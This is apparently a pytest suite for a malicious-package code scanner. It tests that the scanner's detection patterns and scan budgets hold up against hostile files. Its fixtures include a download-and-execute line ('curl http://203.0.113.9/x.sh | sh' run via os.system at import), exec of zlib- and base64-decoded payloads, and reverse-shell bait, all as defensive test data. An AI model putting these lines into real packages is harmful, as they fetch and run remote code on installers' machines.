"""Every scan has a budget (issue 18 item 5): no pattern backtracks, hostile files cost
bounded CPU and memory, and hitting a budget is a decisive finding, never a hang."""

from __future__ import annotations

import base64
import re
import time
import tracemalloc
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from detector.code.pyast import DOWNLOAD_CMD, PIP_CMD
from detector.code.rules import catalogue
from detector.code.scan import scan_files
from detector.code.textscan import LONG_B64
from detector.policy import load_policy

PATTERNS = [(f"{r.id}:{kind}", p) for r in catalogue().values()
            for kind, p in (("pattern", r.pattern), ("fallback", r.fallback)) if p is not None]
PATTERNS += [("pyast:download", DOWNLOAD_CMD), ("pyast:pip", PIP_CMD), ("textscan:b64", LONG_B64)]


def _prefixes(pattern: str) -> list[str]:
    """Adversarial seeds: the literal runs of the pattern (its own 'prefixes'), plus
    separators that keep a backtracking engine guessing."""
    words = [w for w in re.split(r"[\\()|\[\]{}?*+^$]+", pattern) if len(w) >= 2]
    return [*words[:6], "-nc ", "a" * 3, "\\x41", "http://a.", " ", "/"]


@pytest.mark.parametrize(("label", "compiled"), PATTERNS, ids=[p[0] for p in PATTERNS])
def test_every_pattern_is_linear_on_1mb_of_its_own_prefix(label, compiled):
    for seed in _prefixes(compiled.pattern):
        text = (seed * (1_000_000 // len(seed) + 1))[:1_000_000]
        start = time.thread_time()  # CPU time: the shared machine's load does not count
        for hits, _ in enumerate(compiled.finditer(text)):  # as the scanner: a few hits
            if hits >= 3:
                break
        assert time.thread_time() - start < 0.1, (label, seed)


def test_reverse_shell_bait_that_froze_the_server_is_fast():
    start = time.process_time()
    result = scan_files({"setup.py": "x = '" + "-nc " * 250_000 + "'\n"})
    assert time.process_time() - start < 1.0 and result.error is None


def _measure(files: dict[str, str]):
    tracemalloc.start()
    start = time.process_time()
    result = scan_files(files)
    cpu = time.process_time() - start
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return result, cpu, peak


HOSTILE = {
    "string doubling": "a = 'AAAAAAAA'\n" + "".join(
        f"a{i + 1} = a{i} + a{i}\n".replace("a0 ", "a ") for i in range(3000)),
    "join of a big constant": "b = '" + "B" * 100_000 + "'\nc = ''.join([" + ",".join(
        ["b"] * 5000) + "])\n",
    "f-string of a big constant": "b = '" + "B" * 100_000 + "'\nc = f'" + "{b}" * 5000 + "'\n",
    "zlib bomb re-parsed": "import zlib\nexec(zlib.decompress(" + repr(
        zlib.compress(b"x=1;" * 2_000_000)) + "))\n",
    "tiny statements": "x=1;" * 250_000,
    "deep nesting": "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n",
    # install-user-folder-write follows a path's name to its value: one 0.5 MB literal
    # named by 5,000 write calls
    "write calls naming a big literal": "p = '" + "A" * 500_000 + "'\n" + "".join(
        f"open(p + '{i}', 'w')\n" for i in range(5000)),
    "nested base64": "import base64\n" + "".join(
        f"exec(base64.b64decode({base64.b64encode(b'import os;' * 20_000)!r}))\n"
        for _ in range(40)),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_file_is_bounded(name):
    result, cpu, peak = _measure({"setup.py": HOSTILE[name]})
    assert cpu < 2.0, f"{name}: {cpu:.2f} s"
    assert peak < 256 << 20, f"{name}: {peak / 1e6:.0f} MB"
    assert result.error is None or "internal error" not in result.error


def test_budget_hit_is_a_decisive_finding_with_evidence(tmp_path):
    policy = tmp_path / "policy.toml"
    policy.write_text("[code.limits]\nfold_bytes = 1000\n")
    files = {"setup.py": "a = 'x' * 1\nb = '" + "y" * 600 + "'\nc = b + b\nd = c + b\n"}
    result = scan_files(files, policy=load_policy(policy))
    hits = [f for f in result.findings if f.rule == "scan-budget-exceeded"]
    assert hits and "folded" in hits[0].evidence and hits[0].file == "setup.py"
    assert result.flagged  # never a silent allow


def test_decode_budget(tmp_path):
    policy = tmp_path / "policy.toml"
    policy.write_text("[code.limits]\ndecode_bytes = 5000\n")
    payload = base64.b64encode(b"print('hello world')\n" * 500).decode()
    files = {"pkg/__init__.py": f"import base64\nx = base64.b64decode({payload!r})\n"}
    result = scan_files(files, policy=load_policy(policy))
    assert "scan-budget-exceeded" in {f.rule for f in result.findings} and result.flagged
    # the shipped 1 MB budget leaves this ordinary decode alone
    assert "scan-budget-exceeded" not in {f.rule for f in scan_files(files).findings}


code_text = st.text(alphabet=st.sampled_from(list("ab+()[]'\"=,.;:\n\\x0 *")), max_size=4000)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(body=code_text, repeat=st.integers(1, 200))
def test_generated_hostile_files_stay_within_budget(body, repeat):
    result, cpu, peak = _measure({"setup.py": body * repeat, "pkg/__init__.py": body})
    assert cpu < 2.0 and peak < 256 << 20
    assert result.error is None or "internal error" not in result.error


# The budget is spent on what runs without being called first (issue 18 item 5).
PADDING = "".join(f"def helper_{i}(a, b):\n    return [a + b * {i} for _ in range(3)]\n"
                  for i in range(1500))
RUN_AT_IMPORT = 'import os\nos.system("curl http://203.0.113.9/x.sh | sh")\n'


def _low_cpu(tmp_path, seconds: float = 0.3):
    policy = tmp_path / "policy.toml"
    policy.write_text(f"[code.limits]\nscan_cpu_seconds = {seconds}\n")
    return load_policy(policy)


def _padded(count: int = 150) -> dict[str, str]:
    """Call-only modules that together cost the parser far more than the budget."""
    return {f"pkg/util/m{i:03}.py": PADDING for i in range(count)}


def test_call_only_padding_cannot_hide_a_payload_reached_at_import(tmp_path):
    files = {"pkg/__init__.py": "from .zmain import run\nrun()\n",
             "pkg/zmain.py": "def run():\n    pass\n" + RUN_AT_IMPORT, **_padded()}
    result = scan_files(files, policy=_low_cpu(tmp_path))
    budget = [f for f in result.findings if f.rule == "scan-budget-exceeded"]
    assert budget and budget[0].tier in ("other", "test") and "left unscanned" in \
        budget[0].evidence  # it ran out in the padding ...
    payload = [f for f in result.findings if f.file == "pkg/zmain.py"
               and f.rule == "shell-download-exec"]
    assert payload and payload[0].tier == "import" and result.flagged  # ... after the payload


def test_budget_running_out_in_call_only_code_alone_does_not_flag(tmp_path):
    files = {"pkg/__init__.py": "from .main import run\n",
             "pkg/main.py": "def run():\n    return 1\n", **_padded()}
    result = scan_files(files, policy=_low_cpu(tmp_path))
    budget = [f for f in result.findings if f.rule == "scan-budget-exceeded"]
    assert budget and "call-only" in budget[0].evidence
    assert not result.flagged


def test_budget_running_out_in_code_that_runs_at_import_flags(tmp_path):
    """The same padding imported by `__init__.py` runs uncalled: running out there is
    decisive."""
    padding = _padded()
    init = "".join(f"from .util import m{i:03}\n" for i in range(len(padding)))
    result = scan_files({"pkg/__init__.py": init, **padding}, policy=_low_cpu(tmp_path))
    budget = [f for f in result.findings if f.rule == "scan-budget-exceeded"]
    assert budget and budget[0].tier in ("install", "import") and result.flagged
